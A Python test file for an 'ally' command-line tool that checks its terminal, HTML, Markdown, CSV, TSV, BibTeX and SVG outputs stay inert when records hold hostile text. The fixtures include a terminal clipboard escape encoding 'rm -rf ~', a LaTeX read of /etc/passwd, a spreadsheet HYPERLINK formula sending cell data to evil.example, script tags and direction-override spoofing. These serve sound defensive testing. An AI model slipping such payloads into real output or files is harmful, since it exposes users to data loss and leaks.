"""Data that means harm or is merely odd: a terminal shows it inert, a program reads it exactly."""

import csv
import io
import json
import re
import unicodedata
from collections.abc import Iterable, Iterator, Sequence
from itertools import chain, product
from pathlib import Path
from xml.etree import ElementTree

import html5lib
import pytest
from markdown_it import MarkdownIt
from program import Result, ally, ally_in_terminal
from rich.cells import cell_len
from sample import CALLS, Json, encode, files_in, sample, write_files
from small import by_the_rule

from ally_cli.output import FORMATS

HOSTILE = {
    "markup of Rich": "[/] [bold]x[/bold] [link=http://x]y[/link] :smile: \\[",
    "colour": "\x1b[31mred\x1b[0m \x1b[2J\x1b[H \x1bc",
    "link": "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "title": "\x1b]0;owned\x07",
    "C1 controls": "\x9b31mred \x9d0;owned\x9c \x85 \x8d \x90",
    "other controls": "\x00 \x08\x08 \x0b \x0c \x7f",
    "direction": "\u202egpj.exe\u202c \u2066a\u2069 \u200f \u061c",
    "lines": "a\tb\nc\r\nd\re\u2028f\u2029g",
    "hidden": "a\u200bb \ufeffc \u2060 \xad \U000e0041\U000e0042",
    "joined": "می\u200cخواهم 👩\u200d🚀",
    "combining": "\u0301e\u0301\u0302\u0303 Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A",
    "wide": "朝鲜民主主义人民共和国 한국어 😀🇰🇵",
    "long": "w" * 130 + " " + "國" * 70,
    "no characters": "\ufffe \uffff \ufdd0 \U0010ffff",
    "LaTeX": r"{\textbf{x} \input{/etc/passwd} $x^2$ 100% #1 a_b ~ & }",
    "spreadsheet": '=HYPERLINK("http://evil.example?"&A1,"click")',
    "table": "a|b \\| `c|d` | --- |",
    "Markdown": "# h *e* _u_ ~~s~~ `c` <b>i</b> [t](javascript:x) ![i](u) &lt; &#60; &amp;copy;",
    "HTML": '<script>alert("1")</script> ]]> --> &amp; <!ENTITY x "y"> ${x} {{x}} %s %n',
}
EVERYTHING = " ".join(HOSTILE.values())
COMMANDS = [[name, *calls[0]] for name, calls in CALLS.items() if name not in ("validate", "diff")]
COMMANDS += [
    *(["show", "freedonia-tariff"], ["matrix", "--by", "decade"], ["terms", "refuted"]),
    *(["validate"], ["validate", "unsound.json"], ["diff", "own.json"]),
]
# Of those that lay out alike the shorter ones: others take a second to be read again.
SHORT = [["show", "ile-dor"], ["search", "doctors"], ["cite", "sylvania"], ["evidence", "ile-dor"]]
FEW = [c for c in COMMANDS if c[0] not in {short[0] for short in SHORT}] + SHORT
# A colour, or a link whose address holds nothing that would end it.
_color = re.compile(r"\x1b\[[0-9;]*m|\x1b\]8;;[^\x00-\x20\x7f-\x9f]*\x1b\\")


def poisoned(text: str) -> Json:
    """Return the sample with *text* at the end of every text that may hold anything."""
    raw = sample()
    types = {name: f"{name}{text}" for name in raw["support_types"]}
    types["military"] = "military"  # without which there is no treaty
    raw["support_types"] = {
        types[name]: meaning + text for name, meaning in raw["support_types"].items()
    }
    for country in (raw["subject"], *raw["allies"]):
        for field in ("name", "official_name"):
            country[field] += text
        country["aliases"] = [alias + text for alias in country["aliases"]]
    for one in raw["allies"]:
        for field in ("region", "subregion", "capital", "ties_note", "summary"):
            one[field] = (one[field] or "") + text
        for statement in one["statements"]:
            statement["types"] = [types[name] for name in statement["types"]]
            for field in ("text", "note", "attributed_to"):
                statement[field] = (statement[field] or "") + text
            for piece in statement["evidence"]:
                piece["origin"] = (piece["origin"] or "") + text
    for source in raw["sources"]:
        for field in ("publisher", "title", "author", "via"):
            source[field] = (source[field] or "") + text
        source["url"] += "/" + re.sub(r"\s", "", text)  # an address has no blanks
    return raw


RAW = poisoned(EVERYTHING)
POISONED = encode(RAW)
SOURCES = {source["id"]: source for source in RAW["sources"]}


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = write_files(tmp_path_factory.mktemp("data")).parent
    (folder / "poisoned").write_bytes(POISONED)
    (folder / "unsound.json").write_bytes(encode(RAW | {"as_of": EVERYTHING, EVERYTHING: 1}))
    return folder


def call(folder: Path, command: Iterable[str], *more: str) -> list[str]:
    """Return the arguments that run *command* on what is poisoned."""
    return [*files_in(folder, list(command)), "--data", str(folder / "poisoned"), *more]


def obeyed(text: str) -> set[str]:
    """Return the characters of *text* that a terminal may obey, apart from the end of a line."""
    return {
        char
        for char in text
        if unicodedata.category(char) in ("Cc", "Cf", "Zl", "Zp", "Cs")
        and char not in "\n\u200c\u200d"
    }


def in_terminals(
    folder: Path, commands: Sequence[Sequence[str]], widths: Sequence[int], *more: str
) -> Iterator[tuple[Sequence[str], int, Result]]:
    """Yield each of *commands* as a terminal of each of *widths* shows it."""
    for command, width in product(commands, widths):
        yield command, width, ally_in_terminal(*call(folder, command, *more), columns=width)


def test_what_a_terminal_shows_is_inert_and_fits_it(folder: Path) -> None:
    narrow = [["list"], ["filter"], ["show", "ile-dor"], ["terms", "refuted"]]
    for command, width, done in chain(
        in_terminals(folder, COMMANDS, [100], "-q"), in_terminals(folder, narrow, [40], "-q")
    ):
        text = _color.sub("", done.out)

        assert done.code == ("unsound.json" in command), command
        assert obeyed(text) == set(), command
        # An address is whole on its line.
        lines = [line for line in text.splitlines() if "://" not in line]
        assert max(map(cell_len, lines)) <= width, (command, width)


def test_every_format_is_inert_on_a_terminal(folder: Path) -> None:
    formats = [["filter", "-f", name, "-q"] for name in FORMATS]
    formats += [["cite", "-f", name] for name in ("bibtex", "csl")]
    formats += [["schema", "matrix"]]
    for command, _, done in in_terminals(folder, formats, [80]):
        layout = {"\t"} if "tsv" in command else {"\r"} if "csv" in command else set()

        assert done.code == 0, command
        assert obeyed(_color.sub("", done.out)) == layout, command


def in_pipes(
    folder: Path, name: str, commands: Iterable[Sequence[str]] = COMMANDS
) -> Iterator[tuple[Sequence[str], str]]:
    """Yield what each of *commands* writes in the format *name*: nothing that a screen obeys."""
    for command in commands:
        done = ally(*call(folder, command, "-f", name))

        assert done.code == ("unsound.json" in command), command
        assert obeyed(done.out + done.err) == set(), command
        yield command, done.out


def test_a_table_is_inert_in_a_pipe_as_well(folder: Path) -> None:
    for command, text in in_pipes(folder, "table"):
        assert text, command


def test_no_page_has_more_than_tags_of_its_own_and_addresses_in_the_web(folder: Path) -> None:
    for command, text in in_pipes(folder, "html", FEW):
        parser = html5lib.HTMLParser(strict=True, namespaceHTMLElements=False)

        root = parser.parse(text)

        tags = {str(element.tag).rpartition("}")[2] for element in root.iter()}
        assert tags & {"script", "b", "i", "img", "iframe", "base", "form"} == set(), command
        names = {name for element in root.iter() for name in element.attrib}
        assert [name for name in names if name.startswith("on") or name in ("style", "src")] == []
        for link in root.iter("a"):
            assert re.match(r"https?://[a-z]|#[a-z]", link.attrib["href"]), command
        ids = [element.attrib["id"] for element in root.iter() if "id" in element.attrib]
        assert len(ids) == len(set(ids)), command


def test_no_markdown_has_more_than_text_tables_lists_and_links(folder: Path) -> None:
    for command, text in in_pipes(folder, "md", FEW):
        inline = [t for t in MarkdownIt().enable("table").parse(text) if t.type == "inline"]
        kinds = {child.type for token in inline for child in token.children or ()}
        assert kinds <= {
            *("text", "text_special", "hardbreak", "softbreak", "html_inline"),
            *("link_open", "link_close", "strong_open", "strong_close"),
        }, command
        children = [child for token in inline for child in token.children or ()]
        assert {c.content for c in children if c.type == "html_inline"} <= {"<br>"}, command
        links = [str(c.attrs["href"]) for c in children if c.type == "link_open"]
        assert all(re.match("https?://[a-z]", link) for link in links), command


def test_bibtex_has_an_entry_for_each_source_and_its_braces_match(folder: Path) -> None:
    text = ally(*call(folder, ["cite", "freedonia", "--verdict", "any", "-f", "bibtex"])).out

    depth = 0
    for char in text:
        depth += {"{": 1, "}": -1}.get(char, 0)
        assert depth >= 0
    assert depth == 0
    assert re.findall(r"^@misc\{([\w-]+),$", text, re.MULTILINE) == [
        "allies-of-ruritania-2020-06-30",
        *("archive-1934-treaty", "bugle-undated-allies", "census-2019-trade"),
        *("gazette-1999-loan", "gazette-2012-tariff"),
    ]


def test_notes_and_errors_are_inert(folder: Path) -> None:
    subject = RAW["subject"]["name"]
    broken = encode(RAW | {"as_of": EVERYTHING, EVERYTHING: 1})

    runs = [
        ally("list", "--data", "-", stdin=broken),
        ally("validate", "-", stdin=broken),
        ally("validate", "-", "-f", "md", stdin=broken),
        ally(*call(folder, ["show", subject.replace("\0", "")])),
        ally(*call(folder, ["show", subject.replace("\0", ""), "--json"])),
        ally(*call(folder, ["list", "-s", "\x1b[31m\u202e"])),
    ]

    assert [done.code for done in runs] == [1, 1, 1, 3, 3, 2]
    assert [obeyed(done.out + done.err) for done in runs] == [set()] * 6
    assert [done.err.count("\n") for done in runs] == [1, 0, 0, 1, 1, 1]


def test_an_id_holds_nothing_hostile() -> None:
    raw = sample()
    raw["sources"][0]["id"] = "\x1b[31m"

    done = ally("validate", "-", stdin=encode(raw))

    assert done.code == 1
    assert "'\\x1b[31m' is not an id" in done.out


VERDICTS = by_the_rule(RAW)


def statement_fields(one: Json, statement: Json) -> Json:
    """Return what the program answers about *statement*, which is about *one*, but for why."""
    return {
        **statement,
        "ally": one["id"],
        "ally_name": one["name"],
        "ally_iso3": one["iso3"],
        "verdict": VERDICTS[statement["id"]],
        "evidence": [e | {"source": SOURCES[e["source"]]} for e in statement["evidence"]],
    }


ITEMS = {
    statement["id"]: statement_fields(one, statement)
    for one in RAW["allies"]
    for statement in one["statements"]
}


def without_why(items: list[Json]) -> dict[str, Json]:
    return {item["id"]: {k: v for k, v in item.items() if k != "why"} for item in items}


@pytest.mark.parametrize("format", ["json", "jsonl"])
@pytest.mark.parametrize("encoding", ["utf-8", "ascii", "cp1252"])
def test_what_a_program_reads_as_json_is_exact(format: str, encoding: str, folder: Path) -> None:
    done = ally(*call(folder, ["filter", "--verdict", "any", "-f", format]), encoding=encoding)

    lines = [json.loads(line) for line in done.out.split("\n")[:-1]]
    items = lines[0]["items"] if format == "json" else lines
    assert without_why(items) == ITEMS


def test_what_a_terminal_shows_as_json_is_exact_as_well(folder: Path) -> None:
    done = ally_in_terminal(
        *call(folder, ["filter", "--verdict", "any", "--json", "-q"]), columns=80
    )

    assert without_why(json.loads(done.out)["items"]) == ITEMS


TEXTS = {"id": "id", "text": "text", "note": "note", "ally_name": "ally_name"}


def raw_bytes(*arguments: str) -> str:
    """Return what the program writes, with the ends of lines as they are."""
    return ally(*arguments).out


def test_what_a_program_reads_as_csv_is_exact(folder: Path) -> None:
    text = raw_bytes(
        *call(folder, ["filter", "--verdict", "any", "-f", "csv", "-F", ",".join(TEXTS)])
    )

    rows = list(csv.DictReader(io.StringIO(text, newline="")))

    assert rows == [{name: ITEMS[row["id"]][name] for name in TEXTS} for row in rows]
    assert len(rows) == len(ITEMS)


def test_what_a_program_reads_as_tsv_is_exact(folder: Path) -> None:
    text = raw_bytes(
        *call(folder, ["filter", "--verdict", "any", "-f", "tsv", "-F", ",".join(TEXTS)])
    )
    escapes = {r"\t": "\t", r"\n": "\n", r"\r": "\r", r"\\": "\\"}

    rows = [
        [re.sub(r"\\[tnr\\]", lambda match: escapes[match[0]], cell) for cell in line.split("\t")]
        for line in text.split("\n")[1:-1]
    ]

    assert rows == [[ITEMS[row[0]][name] for name in TEXTS] for row in rows]
    assert len(rows) == len(ITEMS)


@pytest.mark.parametrize(
    "formula",
    ['=HYPERLINK("http://evil.example","x")', "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"],
)
@pytest.mark.parametrize("format", ["csv", "tsv"])
def test_a_formula_for_a_spreadsheet_is_a_text_like_any_other(formula: str, format: str) -> None:
    raw = sample()
    raw["allies"][0]["capital"] = formula
    wanted = {"csv": formula, "tsv": formula.replace("\t", "\\t").replace("\r", "\\r")}[format]
    if format == "csv" and set(formula) & set('",\r'):
        wanted = '"' + wanted.replace('"', '""') + '"'

    done = ally(
        *("list", "-n1", "-F", "capital", "-f", format, "--no-header", "-q", "--data", "-"),
        stdin=encode(raw),
    )

    assert done == (0, wanted + ("\r\n" if format == "csv" else "\n"), "")


def test_a_picture_of_what_is_hostile_is_well_formed_and_only_draws(folder: Path) -> None:
    some = [["list"], ["show", "freedonia-tariff"], ["matrix"], ["timeline"], ["validate"]]
    for command, text in in_pipes(folder, "svg", some):
        root = ElementTree.fromstring(text)

        tags = {element.tag.rpartition("}")[2] for element in root.iter()}
        assert tags <= {"svg", "title", "style", "rect", "text", "tspan"}, command
        assert ("<script>" in "".join(root.itertext())) == (command != ["validate"])


@pytest.mark.parametrize("encoding", ["ascii", "cp1252", "shift_jis", "utf-8"])
def test_columns_keep_in_line_whatever_letters_an_encoding_lacks(encoding: str) -> None:
    raw = sample()
    raw["allies"][0]["name"] = "Фридония’s"
    raw["allies"][2]["name"] = "中国"

    done = ally(
        *("list", "-q", "--data", "-", "-F", "name,standing,types"),
        stdin=encode(raw),
        encoding=encoding,
    )

    assert (done.code, done.err) == (0, "")
    head, _, *rows = done.out.splitlines()[:5]
    words = ["Standing", "treaty", "recent", "ended"]
    begin = {
        cell_len(line[: line.index(word)]) for line, word in zip([head, *rows], words, strict=True)
    }
    assert len(begin) == 1, done.out


@pytest.mark.parametrize(
    ("arguments", "code", "message"),
    [
        (["list", "--search", "a\udcffb"], 2, r"'a\xffb' is not text in UTF-8"),
        (["list", "-s", "a\udcffb"], 2, r"no support type 'a\xffb'"),
        (["show", "\udcff"], 3, r"no ally or statement '\xff'"),
        (["\udcff"], 2, r"no command '\xff'"),
        (["list", "--\udcff"], 2, r"no option '--\xff'"),
        (["validate", "/nowhere/\udcff"], 1, r"/nowhere/\xff: No such file or directory"),
        (["list", "--data", "/nowhere/\udcff"], 1, r"/nowhere/\xff: No such file or directory"),
    ],
)
def test_an_argument_that_is_no_text_is_an_error_like_any_other(
    arguments: list[str], code: int, message: str
) -> None:
    plain = ally(*arguments)
    as_json = ally(*arguments, "--json")

    assert (plain.code, plain.out) == (as_json.code, as_json.out) == (code, "")
    assert plain.err.startswith(f"ally: {message}")
    assert json.loads(as_json.err)["error"]["message"] == message


def test_a_file_may_have_a_name_that_is_no_text(tmp_path: Path) -> None:
    file = tmp_path / "\udcff.json"
    file.write_bytes(encode(sample()))

    done = ally("list", "--json", "-F", "id", "--data", str(file))
    checked = ally("validate", str(file))

    assert json.loads(done.out)["count"] == 3
    assert checked.out.startswith(f"{tmp_path}/\\xff.json is sound")


def test_an_error_in_json_is_json_whatever_letters_an_encoding_lacks() -> None:
    done = ally("show", "Фридония", "--json", encoding="ascii")

    assert json.loads(done.err)["error"]["message"] == "no ally or statement 'Фридония'"


def test_a_schema_is_json_whatever_letters_an_encoding_lacks() -> None:
    raw = sample()
    raw["support_types"]["medical"] = "Лекарства."

    done = ally(
        *("schema", "matrix", "--data", "-"),
        stdin=encode(raw),
        encoding="ascii",
    )

    fields = json.loads(done.out)["$defs"]["MatrixAllyItem"]["properties"]
    assert fields["medical"]["description"] == "Лекарства."


def test_a_file_cut_short_within_a_letter_breaks_off_like_any_other() -> None:
    whole = encode(sample())
    cut = whole[: whole.index("Î".encode()) + 1]

    done = ally("list", "--data", "-", stdin=cut)

    assert done == (
        1,
        "",
        "ally: standard input:1: it breaks off (the file may have been cut short)\n",
    )


def test_a_number_that_is_too_long_to_read_is_an_error_in_one_line() -> None:
    data = encode(sample()).replace(b'"schema_version": 2', b'"schema_version": ' + b"1" * 5000)

    done = ally("list", "--data", "-", stdin=data)

    assert (done.code, done.out, done.err.count("\n")) == (1, "", 1)
    assert done.err.startswith("ally: standard input:1: $.schema_version: ")


@pytest.mark.parametrize("search", ["île-d’or", "ILE-D'OR", "ile‐dʼor"])
def test_apostrophes_and_hyphens_are_found_however_they_are_typed(search: str) -> None:
    done = ally(
        *("filter", "--search", search, "-F", "id", "-f", "csv", "--no-header", "--data", "-"),
        stdin=encode(sample()),
    )

    assert done.out == "ile-dor-rifles\r\n"
